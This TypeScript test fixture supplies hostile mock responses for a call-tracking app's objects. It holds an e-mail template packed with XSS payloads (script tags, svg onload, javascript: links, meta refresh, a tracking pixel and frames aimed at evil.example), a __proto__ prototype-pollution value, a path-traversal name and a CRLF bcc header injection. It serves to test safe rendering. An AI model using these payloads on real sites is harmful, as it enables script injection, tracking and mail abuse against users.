import { SCRIPT_OPTION } from '#/contract/script-config.ts'
import type { Obj } from '#/contract/object.ts'
import { BIDI_OPEN, HTML, LONG, LONG_WORD, RTL, ZALGO, ZERO_WIDTH } from './hostile.ts'

const AWAY = 'https://evil.example'

/** A template that tries to escape an e-mail's frame; its last link is still readable. */
const HOSTILE_MESSAGE = `</div></body></html>${HTML}
<base href="${AWAY}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">
<link rel="preconnect" href="${AWAY}"><link rel="stylesheet" href="${AWAY}/sheet.css">
<style>@import url(${AWAY}/import.css); body { background: url(${AWAY}/ground.png) }</style>
<script>window.__pwn = 1; parent.document.title = 'pwned'; alert(1)</script>
<svg onload="window.__pwn = 1"><image href="${AWAY}/svg.png"/><script>window.__pwn = 1</script></svg>
<img src="${AWAY}/pixel.png?from=%ОТ_КОГО%" width="1" height="1" alt="">
<iframe src="${AWAY}/frame"></iframe><object data="${AWAY}/object"></object><embed src="${AWAY}/embed">
<video src="${AWAY}/video" poster="${AWAY}/poster.png" autoplay></video>
<form action="${AWAY}/form"><button formtarget="_top">Отправить</button></form>
<p title=%СТРАНИЦА_ЗВОНКА% style="%РЕФЕРЕР%">%ОТ_КОГО%, %СМС%, %ИМЯ_КЛИЕНТА%</p>
<a href="${AWAY}/plain">Просто ссылка</a>
<a href="${AWAY}/top" target="_top">Ссылка наверх</a>
<a href="${AWAY}/self" target="_self">Ссылка на месте</a>
<a href="javascript:window.__pwn=1" target="_self">Ссылка-сценарий</a>`

export const EDGE_CASES_ALIAS = 'edge-cases'
export const HOSTILE_TITLE_ALIAS = 'hostile-title'
export const HOSTILE_EMAIL_ALIAS = 'hostile-email'

const ADDRESS = 'javascript:window.__pwn=1'
const SCRIPT = `</textarea></code></pre>${HTML}`

export type Details = Omit<
  Obj,
  'oid' | 'alias' | 'title' | 'status' | 'script_config' | 'custom_statuses' | 'calls_count'
>

/** Fields of undocumented types (G26); undefined omits one. */
const otherTypes = (details: Details): object => ({
  ...details,
  site_url: ADDRESS,
  js_code: SCRIPT,
  expiration_date: '32.13.2026 25:00:00',
  sessions_used: '4999',
  sessions: '5000',
  numbers: -1,
  is_tracking: '1',
  needs_renewing: 0,
  needs_increasing: 'true',
  use_sip: null,
  is_upgradable: undefined,
  country: null,
  city: 'Москва',
  tariff: { id: '1', name: HTML, sessions: 'many', price: '0.30000000000000004' },
  tariff_items: { '0': HTML },
  script_config_possible_values: null,
  blocked_ip_addresses: 'none',
  email_notification: [],
  client_phone_numbers: [
    null,
    'number',
    { number: ADDRESS, sip: ADDRESS, record_url: ADDRESS, priority: '1' },
  ],
})

const TEXTS = [HTML, BIDI_OPEN, ZALGO, LONG_WORD.slice(0, 300), RTL, ADDRESS, LONG, ZERO_WIDTH]
const hostileTexts = (details: Details): object => ({
  ...(JSON.parse(JSON.stringify(details), (key, value) =>
    typeof value === 'string'
      ? TEXTS[(key.length + value.length) % TEXTS.length]
      : typeof value === 'number'
        ? Number.MAX_SAFE_INTEGER
        : value,
  ) as Details),
  site_url: `${ADDRESS}//${LONG_WORD.slice(0, 500)}`,
  js_code: `${SCRIPT}\n<script>\n// ${BIDI_OPEN}\nvar ${ZERO_WIDTH} = 1\n</script>\n `,
  tariff_items: [{ [HTML]: LONG }, null, 'null'],
  script_config_possible_values: { ...SCRIPT_OPTION, visitor_id: 6, [HTML]: 7 },
  blocked_ip_list_enabled: true,
  blocked_ip_addresses: { ['__proto__']: { polluted: true }, constructor: HTML, [BIDI_OPEN]: ADDRESS },
  // The slash makes its name unusable in a plan's path.
  tariff: {
    id: 0,
    name: `${BIDI_OPEN}/../${HTML}`,
    sessions: 1,
    numbers: -1,
    multiregion: true,
    price: 1e21,
  },
  sessions: 1,
})

const hostileEmail = ({ email_notification: { obj_email_notify_config: config }, ...details }: Details) => ({
  ...details,
  email_notification_enabled: true,
  email_notification: {
    obj_email_notify_config: {
      ...config,
      is_enabled: true,
      missed_only: false,
      monitor_recipients: HTML,
      recipients: `a@example.com?bcc=all@evil.example\r\n\r\n"${HTML}"@example.com\nsales@example.com`,
      subject_template: `${HTML} %ОТ_КОГО% %ИМЯ_КЛИЕНТА%`,
      message_template: HOSTILE_MESSAGE,
    },
  },
})

export const EDGE_OBJECTS: Readonly<
  Record<string, { readonly title?: string; readonly answer: (details: Details) => object }>
> = {
  [EDGE_CASES_ALIAS]: { answer: otherTypes },
  // Its first letter sorts it last.
  [HOSTILE_TITLE_ALIAS]: { title: `Яхты ${HTML} ${ZALGO} ${BIDI_OPEN}`, answer: hostileTexts },
  [HOSTILE_EMAIL_ALIAS]: { answer: hostileEmail },
}
